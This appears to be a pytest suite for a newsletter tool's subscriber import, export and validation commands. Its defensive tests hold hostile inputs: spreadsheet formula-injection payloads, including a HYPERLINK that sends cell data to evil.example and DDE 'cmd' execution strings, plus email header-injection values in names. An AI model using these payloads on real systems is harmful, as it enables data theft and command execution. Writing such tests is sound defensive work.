"""Subscribers: CSV import (bad rows, re-import), add, remove, list, export."""

from __future__ import annotations

import csv
import io
import random
import string

import pytest
from click.testing import CliRunner
from email_validator import EmailNotValidError, validate_email

from newsletter.audience.addresses import address_or_problem, normalize_email
from newsletter.cli import cli
from newsletter.commands.subscribers import import_csv
from newsletter.errors import DeliveryError
from newsletter.store import open_store
from support.project import Project

CSV = """\
email,name,status
Ada@Example.org,Ada Lovelace,
alan@example.org,Alan Turing,active
not-an-address,Nobody,
grace@example.org,"Grace
Hopper",
left@example.org,Left Already,unsubscribed
ada@example.org,Ada again,
weird@example.org,Weird,paused
,,
bob@localhost,Bob,
"""


def _run(project: Project, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_import_reports_bad_rows_with_lines_and_skips_them(project: Project) -> None:
    (project.root / "subs.csv").write_text(CSV, encoding="utf-8")
    code, out, err = _run(project, "subscribers", "import", "subs.csv")
    assert code == 0, err
    assert "3 added, 0 updated, 0 unchanged, 5 bad row(s) skipped" in out
    lines = err.splitlines()
    assert lines[0].startswith("subs.csv:4: skipped: ") and "@-sign" in lines[0]
    assert lines[1].startswith("subs.csv:5: skipped: the name contains a line break")
    assert lines[2] == "subs.csv:8: skipped: ada@example.org is already on line 2"
    assert lines[3].startswith("subs.csv:9: skipped: status 'paused'")
    assert lines[4].startswith("subs.csv:11: skipped: ")
    code, out, _ = _run(project, "subscribers", "list")
    assert out.splitlines() == ["ada@example.org\tactive\tAda Lovelace",
                                "alan@example.org\tactive\tAlan Turing",
                                "left@example.org\tunsubscribed\tLeft Already"]


def test_reimport_changes_nothing_and_never_reactivates(project: Project) -> None:
    path = project.root / "subs.csv"
    path.write_text("email,name\nann@example.org,Ann\nbob@example.org,Bob\n", encoding="utf-8")
    first = import_csv(project.config(), path)
    assert (first.added, first.updated, first.unchanged) == (2, 0, 0)
    assert _run(project, "subscribers", "remove", "ann@example.org")[1] == \
        "unsubscribed ann@example.org\n"
    again = import_csv(project.config(), path)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    code, out, _ = _run(project, "subscribers", "list", "--status", "active")
    assert out == "bob@example.org\tactive\tBob\n"


def test_headerless_file_and_utf8_bom(project: Project) -> None:
    path = project.root / "plain.csv"
    path.write_bytes("\ufeffzoe@example.org,Zoë\nbad,x\n".encode())
    report = import_csv(project.config(), path)
    assert report.added == 1 and report.bad[0][0] == 2


def test_file_without_email_column_is_refused(project: Project) -> None:
    (project.root / "x.csv").write_text("name,city\nAnn,Paris\n", encoding="utf-8")
    code, _, err = _run(project, "subscribers", "import", "x.csv")
    assert code == 2 and err.startswith("error: x.csv:1: no 'email' column")


def test_add_remove_forget_export(project: Project) -> None:
    assert _run(project, "subscribers", "add", "Ann@Example.org", "--name", "Ann")[1] == \
        "added ann@example.org\n"
    assert _run(project, "subscribers", "add", "bob@example.org")[0] == 0
    assert _run(project, "subscribers", "remove", "bob@example.org")[0] == 0
    code, _, err = _run(project, "subscribers", "add", "bob@example.org")
    assert code == 2 and "bob@example.org is unsubscribed" in err and "--reactivate" in err
    assert _run(project, "subscribers", "add", "bob@example.org", "--reactivate")[1] == \
        "reactivated bob@example.org\n"
    code, out, _ = _run(project, "subscribers", "export")
    assert list(csv.reader(io.StringIO(out))) == [
        ["email", "name", "status"], ["ann@example.org", "Ann", "active"],
        ["bob@example.org", "", "active"]]
    assert _run(project, "subscribers", "remove", "--forget", "ann@example.org")[0] == 0
    code, _, err = _run(project, "subscribers", "remove", "ann@example.org")
    assert code == 2 and "not a subscriber" in err
    code, _, err = _run(project, "subscribers", "add", "no-at-sign")
    assert code == 2 and err.startswith("error: 'no-at-sign' is not a valid address")


def test_header_injection_in_a_name_is_refused(project: Project) -> None:
    code, _, err = _run(project, "subscribers", "add", "x@example.org", "--name", "X\r\nBcc: y")
    assert code == 2 and "line break" in err


def test_fast_path_agrees_with_email_validator() -> None:
    """Whatever the regex accepts, email-validator accepts too, with the same address."""
    rng = random.Random(7)
    alphabet = string.ascii_letters + string.digits + "._+-"
    samples = ["a@b.co", "first.last@sub.example.org", "x+tag@example.museum",
               "a..b@example.org", ".a@example.org", "a.@example.org", "a@-x.org",
               "a@x-.org", "a@x.o", "a@x.123", "a@local.test", "a@x.invalid", "a@[1.2.3.4]",
               "o'neil@example.org", "a@" + "x" * 64 + ".org", "x" * 65 + "@example.org"]
    for _ in range(3000):
        local = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 12)))
        labels = ["".join(rng.choice(string.ascii_lowercase + string.digits + "-")
                          for _ in range(rng.randint(1, 8))) for _ in range(rng.randint(1, 3))]
        samples.append(f"{local}@{'.'.join(labels)}.{rng.choice(['org', 'io', 'c0', 'de'])}")
    for address in samples:
        try:
            expected = validate_email(address, check_deliverability=False,
                                      allow_smtputf8=True).normalized.lower()
        except EmailNotValidError:
            expected = None
        try:
            ours = address_or_problem(address)
        except ValueError:
            ours = None
        assert ours == expected, address


def test_normalize_email_errors_are_one_line() -> None:
    with pytest.raises(DeliveryError) as info:
        normalize_email("ann@@example.org")
    assert "\n" not in info.value.one_line()


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "'=already quoted", "''+two quotes",
            "'plain apostrophe", "O'Brien", "Ada Lovelace", "-", "'", "a=b"]


def test_export_neutralises_formulas_and_import_gives_them_back(project: Project) -> None:
    rows = [(f"r{i}@example.org", name) for i, name in enumerate(FORMULAS)]
    rows += [("-dash@example.org", "Dash"), ("+plus@example.org", "Plus"),
             ("=eq@example.org", "Eq")]
    with open_store(project.config()) as store:
        store.upsert_subscribers([(email, name, "active") for email, name in rows])
    code, exported, _ = _run(project, "subscribers", "export")
    assert code == 0
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for neutralised in ["'=HYPERLINK(", "'-1+2", "'@SUM(", "'+cmd|", "'-dash@example.org",
                        "'=eq@example.org", "''=already quoted", "'''+two quotes", "'-,"]:
        assert neutralised in exported
    for as_is in [",'plain apostrophe,", ",O'Brien,", ",a=b,", ",',"]:
        assert as_is in exported
    (project.root / "newsletter.sqlite3").unlink()
    (project.root / "out.csv").write_text(exported, encoding="utf-8")
    assert not import_csv(project.config(), project.root / "out.csv").bad
    assert _run(project, "subscribers", "export")[1] == exported
    with open_store(project.config()) as store:
        assert [(s.email, s.name) for s in store.iter_subscribers()] == rows


def test_a_field_over_the_csv_limit_skips_only_its_row(project: Project) -> None:
    huge = "x" * 200_000
    (project.root / "subs.csv").write_text(
        f"email,name\nann@example.org,Ann\nbig@example.org,{huge}\nbob@example.org,Bob\n"
        f'quoted@example.org,"{huge}"\ncid@example.org,Cid\n{huge}@example.org,\n'
        "dee@example.org,Dee\n", encoding="utf-8")
    code, out, err = _run(project, "subscribers", "import", "subs.csv")
    assert code == 0, err
    limit = f"{csv.field_size_limit():,}"
    assert err.splitlines() == [f"subs.csv:3: skipped: a field is longer than {limit} characters",
                                f"subs.csv:5: skipped: a field is longer than {limit} characters",
                                f"subs.csv:7: skipped: a field is longer than {limit} characters"]
    assert "4 added, 0 updated, 0 unchanged, 3 bad row(s) skipped" in out
    _, listed, _ = _run(project, "subscribers", "list")
    assert [line.split("\t")[0] for line in listed.splitlines()] == [
        "ann@example.org", "bob@example.org", "cid@example.org", "dee@example.org"]


def test_a_line_that_is_not_utf8_skips_only_its_row(project: Project) -> None:
    (project.root / "subs.csv").write_bytes(
        b"email,name\nann@example.org,Ann\n" + b"jos\xe9@example.org,Jos\xe9\n"
        + b"zoe@example.org,Zo\xeb\n" + "bob@example.org,Böb\n".encode())
    code, out, err = _run(project, "subscribers", "import", "subs.csv")
    assert code == 0, err
    assert err.splitlines() == [
        "subs.csv:3: skipped: the line is not UTF-8 text (save the file as UTF-8)",
        "subs.csv:4: skipped: the line is not UTF-8 text (save the file as UTF-8)"]
    assert "2 added" in out


UNPRINTABLE = {"\u2028": "a line break", "\u2029": "a line break", "\u0085": "a line break",
               "\t": "a line break", "\x1b": "a line break",
               "\u202e": "an invisible formatting", "\u200b": "an invisible formatting",
               "\u00ad": "an invisible formatting", "\ufeff": "an invisible formatting",
               "\ue000": "an unassigned or private-use", "\u0378": "an unassigned or private-use"}


@pytest.mark.parametrize("char", list(UNPRINTABLE))
def test_a_name_with_an_unprintable_character_is_refused(project: Project, char: str) -> None:
    name = f"Eve{char}Bcc: x@evil.example"
    code, _, err = _run(project, "subscribers", "add", "eve@example.org", "--name", name)
    assert code == 2 and err.count("\n") == 1
    assert err.startswith(f"error: the name contains {UNPRINTABLE[char]}")
    assert f"(U+{ord(char):04X})" in err
    path = project.root / "subs.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([("email", "name"), ("eve@example.org", name),
                                      ("ann@example.org", "Ann")])
    code, out, err = _run(project, "subscribers", "import", "subs.csv")
    assert err.startswith(f"subs.csv:2: skipped: the name contains {UNPRINTABLE[char]}")
    assert "1 added" in out
    assert _run(project, "subscribers", "list")[1] == "ann@example.org\tactive\tAnn\n"


@pytest.mark.parametrize("name", ["Jean\u00a0Dupont", "山田\u3000太郎", "علی\u200cرضا",
                                  "👩\u200d💻 Dev", "Zoë Ærø", "e\u0301clair", "  Ann  "])
def test_names_that_are_printable_or_spaced_are_kept(project: Project, name: str) -> None:
    assert _run(project, "subscribers", "add", "x@example.org", "--name", name)[0] == 0
    with open_store(project.config()) as store:
        assert store.subscriber("x@example.org").name == name.strip()


def test_internationalised_addresses_are_stored_as_email_validator_normalises(
        project: Project) -> None:
    assert _run(project, "subscribers", "add", "User@München.DE")[1] == \
        "added user@münchen.de\n"
    assert _run(project, "subscribers", "add", "user@xn--mnchen-3ya.de")[1] == \
        "user@münchen.de is subscribed\n"
    assert _run(project, "subscribers", "add", "José@example.org")[1] == \
        "added josé@example.org\n"
    assert normalize_email("ann@xn--bcher-kva.de") == "ann@bücher.de"
    assert normalize_email("e\u0301@example.org") == "\u00e9@example.org"  # NFC
    assert _run(project, "subscribers", "list")[1].splitlines() == [
        "user@münchen.de\tactive\t", "josé@example.org\tactive\t"]
